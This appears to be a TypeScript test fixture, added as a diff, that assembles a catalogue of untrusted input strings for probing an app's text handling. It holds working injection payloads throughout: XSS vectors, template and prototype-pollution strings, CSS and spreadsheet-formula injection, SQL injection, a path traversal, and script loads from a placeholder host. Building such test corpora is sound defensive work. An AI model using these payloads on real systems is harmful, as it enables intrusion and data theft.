@@ -1,0 +1,225 @@
+/** What a script that runs would call: a function that the journeys watch. */
+const RUN = 'canary()'
+/** Where nothing must ever be fetched from. */
+const ELSEWHERE = '//elsewhere.invalid'
+
+const events = [
+  'onload',
+  'onerror',
+  'onfocus',
+  'onmouseover',
+  'onclick',
+  'ontoggle',
+  'onanimationstart',
+  'onpointerover',
+  'onblur',
+  'onkeydown',
+  'onwheel',
+]
+
+/** How a text tries to become something else than text, by the way it takes. */
+const classes: Record<string, readonly string[]> = {
+  scriptTags: [
+    `<script>${RUN}</script>`,
+    `<SCRIPT>${RUN}</SCRIPT>`,
+    `<script src=${ELSEWHERE}/a.js></script>`,
+    `<script type=module>${RUN}</script>`,
+    `<script/x>${RUN}</script >`,
+    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+    `<script>${RUN}//`,
+    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+    `<template><script>${RUN}</script></template>`,
+    `\u0001<script>${RUN}</script>`,
+    `<\u212acript>${RUN}</script>`,
+    `\ufeff<script>${RUN}</script>`,
+  ],
+  endsOfScripts: [
+    `</script><script>${RUN}</script>`,
+    `</script ><svg/onload=${RUN}>`,
+    `<!--<script>`,
+    `--><script>${RUN}</script>`,
+    `]]><script>${RUN}</script>`,
+    `\u2028${RUN}//`,
+    `\u2029${RUN}//`,
+    `';${RUN};'`,
+    `";${RUN};"`,
+    `\\";${RUN};//`,
+    `\\u003cscript\\u003e${RUN}`,
+    `"}</script><script>${RUN}</script>`,
+    `</title><script>${RUN}</script>`,
+    `</textarea><script>${RUN}</script>`,
+    `</style><script>${RUN}</script>`,
+    `"><meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
+    `"><base href=${ELSEWHERE}/>`,
+    `"><link rel=stylesheet href=${ELSEWHERE}/a.css>`,
+  ],
+  handlers: events.flatMap((event) => [
+    `<img src=x ${event}=${RUN}>`,
+    `<svg ${event}=${RUN}>`,
+    `<input autofocus ${event}=${RUN}>`,
+    `<details open ${event}=${RUN}>x</details>`,
+    `" ${event}="${RUN}" x="`,
+    `' autofocus tabindex=1 ${event}='${RUN}' x='`,
+    `<img/src='x'/${event}='${RUN}'>`,
+    `<body ${event.toUpperCase()}=${RUN}>`,
+    `<video ${event}=${RUN}><source ${event}=${RUN}></video>`,
+    `<iframe src=x ${event}=${RUN}></iframe>`,
+  ]),
+  addresses: ['a href', 'iframe src', 'form action', 'object data', 'embed src', 'img src', 'base href'].flatMap(
+    (tag) => [
+      `<${tag}="javascript:${RUN}">x`,
+      `<${tag}="JaVaScRiPt:${RUN}">x`,
+      `<${tag}="java\tscript:${RUN}">x`,
+      `<${tag}="&#106;avascript:${RUN}">x`,
+      `<${tag}=" \u0001javascript:${RUN}">x`,
+      `<${tag}="data:text/html,<script>parent.${RUN}</script>">x`,
+      `<${tag}="${ELSEWHERE}/x">x`,
+    ],
+  ),
+  bareAddresses: [
+    `javascript:${RUN}`,
+    `javascript://%0a${RUN}`,
+    `data:text/html,<script>${RUN}</script>`,
+    `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==`,
+    `vbscript:${RUN}`,
+    `${ELSEWHERE}/x`,
+    `https:${ELSEWHERE}/x`,
+    `\\\\elsewhere.invalid\\x`,
+  ],
+  drawings: [
+    `<svg><script>${RUN}</script></svg>`,
+    `<svg><script href="data:,${RUN}" /></svg>`,
+    `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
+    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+    `<svg><set attributeName=href to="javascript:${RUN}">`,
+    `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
+    `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>"/></svg>`,
+    `<svg><image href="${ELSEWHERE}/x.png"/></svg>`,
+    `<math><mtext></p><style><img src=x onerror=${RUN}></style></mtext></math>`,
+    `<math href="javascript:${RUN}">x</math>`,
+    `<svg><style>*{background:url(${ELSEWHERE}/x)}</style></svg>`,
+    `<svg><p><style><!--</style><img src=x onerror=${RUN}>-->`,
+  ],
+  templates: [
+    `{{constructor.constructor('${RUN}')()}}`,
+    `{{7*7}}`,
+    `\${${RUN}}`,
+    `#{${RUN}}`,
+    `<%= ${RUN} %>`,
+    `{%if 1%}${RUN}{%endif%}`,
+    `[[${RUN}]]`,
+    `{{{${RUN}}}}`,
+    `*{${RUN}}`,
+    `@(${RUN})`,
+    `<div ng-app>{{${RUN}}}</div>`,
+    `<div v-html="${RUN}"></div>`,
+    `<div x-data x-init="${RUN}"></div>`,
+    `<div hx-on:load="${RUN}"></div>`,
+    `__NONCE__ __BASE__ <!--head-->`,
+    `$& $1 $\` $' $$`,
+    `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
+    `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
+    `constructor`,
+    `__proto__`,
+  ],
+  styles: [
+    `<style>*{display:none!important}</style>`,
+    `<style>@import '${ELSEWHERE}/a.css';</style>`,
+    `<div style="position:fixed;inset:0;background:red">`,
+    `<div style="background:url(${ELSEWHERE}/x)">x</div>`,
+    `red;}*{display:none}`,
+    `</style><style>*{display:none}`,
+    `url(${ELSEWHERE}/x)`,
+    `url("javascript:${RUN}")`,
+    `expression(${RUN})`,
+    `var(--x);background:url(${ELSEWHERE}/x)`,
+    `<div style="animation:x" onanimationend=${RUN}>`,
+    `@import "${ELSEWHERE}/a.css";`,
+  ],
+  markdown: [
+    `[x](javascript:${RUN})`,
+    `![x](x" onerror="${RUN})`,
+    `![x](${ELSEWHERE}/x.png)`,
+    `<javascript:${RUN}>`,
+    `[x]: javascript:${RUN}`,
+    '```html\n<script>canary()</script>\n```',
+    `# <img src=x onerror=${RUN}>`,
+    `&lt;script&gt;${RUN}&lt;/script&gt;`,
+    `&#60;script&#62;${RUN}&#60;/script&#62;`,
+    `&#x3c;img src=x onerror=${RUN}&#x3e;`,
+    `&amp;lt;script&amp;gt;`,
+    `&NewLine;&Tab;&colon;&lpar;&nbsp;`,
+    `%3Cscript%3E${RUN}%3C/script%3E`,
+    `%253Cscript%253E`,
+    `\\x3cscript\\x3e${RUN}`,
+    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  ],
+  directions: [
+    '\u202efoyer\u202c',
+    '\u2067foyer',
+    '\u202e\u202e\u202eeert',
+    '\u061cfoyer\u200f',
+    'مسرح المدينة',
+    'תיאטרון',
+    `\u202e>tpircs/<${RUN}>tpircs<`,
+    'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(4),
+    'Z\u0351\u036b\u0343a\u0363l\u0363g\u0321o\u0328'.repeat(4),
+    '\u200b\u200c\u200d\u2060foyer\ufeff',
+    'one\r\ntwo\ttab\u000bdown\u0085next',
+    '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67'.repeat(8),
+    '\u{e0001}\u{e0041}tag',
+    '\ufffd\ufffe',
+  ],
+  lengths: [
+    'W'.repeat(250),
+    '\u0152'.repeat(250),
+    '漢'.repeat(250),
+    '-'.repeat(250),
+    '\u00a0'.repeat(100) + 'x',
+    `${'a\u00ad'.repeat(60)}`,
+    'https://example.org/' + 'a'.repeat(230),
+    'x@'.repeat(120),
+    '(((((((((('.repeat(20),
+    '\ud83c\udfad'.repeat(120),
+    `${'lo ng '.repeat(40)}`,
+    '._.'.repeat(80),
+  ],
+  formulas: [
+    `=HYPERLINK("http:${ELSEWHERE}","x")`,
+    `=cmd|' /C calc'!A0`,
+    `+1+1`,
+    `@SUM(1)`,
+    `-2+3`,
+    `';DROP TABLE users;--`,
+    `1' OR '1'='1`,
+    `../../../etc/passwd`,
+    `%00`,
+    `null`,
+    `undefined`,
+    `NaN`,
+    `[object Object]`,
+    `true`,
+    `%s%n%x`,
+    `\\N`,
+  ],
+}
+
+/** Every untrusted text. */
+export const untrustedTexts: readonly string[] = Object.values(classes).flat()
+
+/** The same, put together into texts that fit a field of so many characters, each of them a mixture of all ways. */
+export function untrustedMixtures(max: number): string[] {
+  const mixtures: string[] = []
+  for (const text of shuffled(untrustedTexts)) {
+    const last = mixtures.at(-1)
+    if (last !== undefined && last.length + 1 + text.length <= max) mixtures[mixtures.length - 1] = `${last} ${text}`
+    else mixtures.push(text)
+  }
+  return mixtures
+}
+
+/** Always the same order, in which neighbours are of different classes. */
+function shuffled(texts: readonly string[]): string[] {
+  const step = 97
+  return texts.map((_, index) => texts[(index * step) % texts.length] ?? '')
+}
